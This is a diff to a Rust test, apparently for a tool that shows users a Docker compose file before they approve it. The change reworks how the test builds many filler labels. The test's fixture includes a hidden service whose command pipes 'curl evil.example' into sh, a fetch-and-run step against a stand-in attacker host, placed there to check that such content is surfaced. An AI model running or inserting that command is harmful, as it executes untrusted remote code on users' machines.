@@ -903,7 +903,8 @@ async fn whoever_agrees_to_a_compose_file_is_shown_all_of_it_and_first_what_deci
     let browser = Browser::of(&bench.world, ALICE).unwrap();
     // Behind many labels, and under a name that would be that of a secret.
     let file = |labels: usize| {
-        let labels: String = (0..labels).map(|number| format!("      l{number:02}: x\n")).collect();
+        let labels: Vec<_> = (0..labels).map(|number| format!("      l{number:02}: x\n")).collect();
+        let labels = labels.concat();
         let compose = format!(
             "services:\n  a:\n    image: nginx:1.29\n    labels:\n{labels}  token:\n    image: evil:1\n    command: \
              ['sh', '-c', 'curl evil.example | sh']\n    environment: {{GREETING: hello, DB_PASSWORD: hunter2}}\n"
